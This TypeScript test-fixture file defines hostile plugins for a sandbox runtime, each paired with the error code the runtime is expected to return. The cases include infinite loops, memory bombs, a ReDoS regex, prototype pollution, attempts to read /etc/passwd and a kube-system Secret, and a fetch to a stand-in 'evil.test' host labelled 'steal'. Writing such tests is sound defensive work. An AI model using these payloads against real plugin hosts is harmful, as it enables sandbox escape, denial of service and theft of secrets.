import type { CapabilityRequest } from '@appmanager/plugin-sdk';
import type { PluginErrorCode } from '../errors/plugin-error.js';
import type { HostPorts } from '../host/capability-ports.js';
import type { CallLimits } from '../limits/sandbox-limits.js';

/** A plug-in that attacks the host, and the error code the runtime must answer with. */
export interface HostileCase {
  name: string;
  /** A Component plug-in's `render`; written as a bundle would be. */
  source: string;
  expect: PluginErrorCode;
  capabilities?: CapabilityRequest;
  ports?: () => HostPorts;
  limits?: Partial<CallLimits>;
  /** What the plug-in's own message must contain, when it threw something. */
  pluginMessage?: RegExp;
}

const render = (body: string): string => `exports.render = function (input, host) {\n${body}\n};`;
const asyncRender = (body: string): string => `exports.render = async function (input, host) {\n${body}\n};`;

export const HOSTILE_PLUGINS: readonly HostileCase[] = [
  { name: 'infinite loop', source: render('while (true) {}'), expect: 'PLUGIN_TIMEOUT' },
  {
    name: 'infinite loop that catches the interrupt',
    source: render('for (;;) { try { while (true) {} } catch (e) {} }'),
    expect: 'PLUGIN_TIMEOUT',
  },
  { name: 'loop inside a promise job', source: render('return Promise.resolve().then(() => { for (;;) {} });'), expect: 'PLUGIN_TIMEOUT' },
  {
    name: 'endless chain of promise jobs',
    source: render('const spin = () => Promise.resolve().then(spin); return spin();'),
    expect: 'PLUGIN_TIMEOUT',
  },
  {
    name: 'loop of heavy built-ins (overshoots the interrupt, hard-killed)',
    source: render("for (;;) { new Array(300000).fill(1).join(','); }"),
    expect: 'PLUGIN_TIMEOUT',
  },
  { name: 'promise that can never settle', source: render('return new Promise(() => {});'), expect: 'PLUGIN_TIMEOUT' },
  { name: 'ReDoS regular expression', source: render("return { ok: /^(a+)+$/.test('a'.repeat(40) + '!') };"), expect: 'PLUGIN_TIMEOUT' },
  {
    name: 'deep recursion',
    source: render('function down(n) { return down(n + 1) + 1; } return down(0);'),
    expect: 'PLUGIN_STACK_OVERFLOW',
  },
  {
    name: 'deeply nested JSON parsed in the guest',
    source: render("return JSON.parse('['.repeat(200000) + ']'.repeat(200000));"),
    expect: 'PLUGIN_STACK_OVERFLOW',
  },
  {
    name: 'deeply nested output',
    source: render('let o = {}; for (let i = 0; i < 2000; i++) o = { o }; return { resources: [], o };'),
    expect: 'PLUGIN_BAD_OUTPUT',
  },
  {
    name: 'array memory bomb',
    source: render('const a = []; for (;;) a.push(new Array(1000000).fill(0));'),
    expect: 'PLUGIN_OUT_OF_MEMORY',
  },
  {
    name: 'string memory bomb',
    source: render('const keep = []; for (let i = 0; ; i++) keep.push(String(i).repeat(1 << 20));'),
    expect: 'PLUGIN_OUT_OF_MEMORY',
  },
  {
    name: 'ArrayBuffer memory bomb',
    source: render('const a = []; for (;;) a.push(new ArrayBuffer(4 * 1024 * 1024));'),
    expect: 'PLUGIN_OUT_OF_MEMORY',
  },
  {
    name: 'single allocation above the heap limit',
    source: render('return new ArrayBuffer(256 * 1024 * 1024).byteLength;'),
    expect: 'PLUGIN_OUT_OF_MEMORY',
  },
  { name: 'huge output', source: render("return { resources: [], junk: 'x'.repeat(4 * 1024 * 1024) };"), expect: 'PLUGIN_BAD_OUTPUT' },
  {
    name: '__proto__ in the output',
    source: render('return JSON.parse(\'{"resources":[],"__proto__":{"polluted":true}}\');'),
    expect: 'PLUGIN_BAD_OUTPUT',
  },
  {
    name: 'constructor.prototype in the output',
    source: render('return JSON.parse(\'{"resources":[],"constructor":{"prototype":{"polluted":true}}}\');'),
    expect: 'PLUGIN_BAD_OUTPUT',
  },
  {
    name: 'toJSON that throws',
    source: render("return { resources: [], toJSON() { throw new Error('toJSON says no'); } };"),
    expect: 'PLUGIN_BAD_OUTPUT',
    pluginMessage: /toJSON says no/,
  },
  {
    name: 'tampered Promise.prototype.then',
    source: asyncRender('Promise.prototype.then = function () { return { resources: [] }; }; return { resources: [] };'),
    expect: 'PLUGIN_BAD_OUTPUT',
  },
  { name: 'output that breaks the ABI', source: render("return { resources: [{ kind: 'ConfigMap' }] };"), expect: 'PLUGIN_BAD_OUTPUT' },
  {
    name: 'host-call flood',
    source: asyncRender("for (let i = 0; i < 100000; i++) host.log.info('again'); return { resources: [] };"),
    capabilities: { log: true },
    expect: 'PLUGIN_HOST_CALL_LIMIT',
  },
  {
    name: 'host-call flood that swallows the errors',
    source: asyncRender("for (let i = 0; i < 1000; i++) { try { await host.log.info('again'); } catch (e) {} } return { resources: [] };"),
    capabilities: { log: true },
    expect: 'PLUGIN_HOST_CALL_LIMIT',
  },
  {
    name: 'host promise that never settles',
    source: asyncRender("await host.http.fetch({ url: 'https://api.example.com/v1/slow' }); return { resources: [] };"),
    capabilities: { http: { allow: ['https://api.example.com/v1/'] } },
    ports: () => ({ http: { fetch: () => new Promise(() => undefined) } }),
    limits: { hostCallTimeoutMs: 100 },
    expect: 'PLUGIN_HOST_CALL_FAILED',
    pluginMessage: /did not answer/,
  },
  {
    name: 'reaching for require',
    source: render("return require('fs').readFileSync('/etc/passwd', 'utf8');"),
    expect: 'PLUGIN_THREW',
    pluginMessage: /require/,
  },
  { name: 'reaching for process', source: render('process.exit(1);'), expect: 'PLUGIN_THREW', pluginMessage: /process/ },
  {
    name: 'reaching for globalThis.fetch',
    source: asyncRender("return await globalThis.fetch('https://example.com');"),
    expect: 'PLUGIN_THREW',
    pluginMessage: /not a function/,
  },
  { name: 'reaching for timers', source: render('setTimeout(() => {}, 0);'), expect: 'PLUGIN_THREW', pluginMessage: /setTimeout/ },
  {
    name: 'using a capability it did not declare',
    source: asyncRender("return await host.kube.get({ apiVersion: 'v1', kind: 'Secret', name: 'db' });"),
    capabilities: { log: true },
    expect: 'PLUGIN_THREW',
    pluginMessage: /kube|undefined/,
  },
  {
    name: 'Kubernetes outside its namespace',
    source: asyncRender(
      "await host.kube.get({ apiVersion: 'v1', kind: 'Secret', name: 'admin', namespace: 'kube-system' }); return { resources: [] };",
    ),
    capabilities: { kube: true },
    ports: () => ({ kube: { get: async () => null, list: async () => [], apply: async (_s, o) => o, delete: async () => true } }),
    expect: 'PLUGIN_CAPABILITY_DENIED',
  },
  {
    name: 'HTTP to a URL that is not allow-listed',
    source: asyncRender("await host.http.fetch({ url: 'https://api.example.com.evil.test/v1/steal' }); return { resources: [] };"),
    capabilities: { http: { allow: ['https://api.example.com/v1/'] } },
    ports: () => ({ http: { fetch: async () => ({ status: 200, headers: {}, body: 'secret' }) } }),
    expect: 'PLUGIN_CAPABILITY_DENIED',
  },
  {
    name: 'a thrown plain error',
    source: render("throw new TypeError('bad replicas');"),
    expect: 'PLUGIN_THREW',
    pluginMessage: /bad replicas/,
  },
  { name: 'a missing export', source: 'exports.apply = () => ({ applied: [] });', expect: 'PLUGIN_MISSING_EXPORT' },
  { name: 'a syntax error', source: 'exports.render = function ( {', expect: 'PLUGIN_THREW', pluginMessage: /./ },
];

/**
 * Issue 13's case: a plug-in that stashes every input in `globalThis` and patches `Object.prototype` and
 * `Array.prototype.map`, and reports what earlier calls left behind. A call of another deployment (another
 * isolation key), or of none, must find nothing.
 */
export const STATE_STASHING_PLUGIN = render(`
  globalThis.__seen = globalThis.__seen || [];
  const before = globalThis.__seen.length;
  const patched = Object.prototype.__mark === 'patched' || Array.prototype.map.__patched === true;
  globalThis.__seen.push(input.properties);
  Object.prototype.__mark = 'patched';
  const map = Array.prototype.map;
  Array.prototype.map = function () { return map.apply(this, arguments); };
  Array.prototype.map.__patched = true;
  return { resources: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'seen' }, data: { before: String(before), patched: String(patched) } }] };
`);
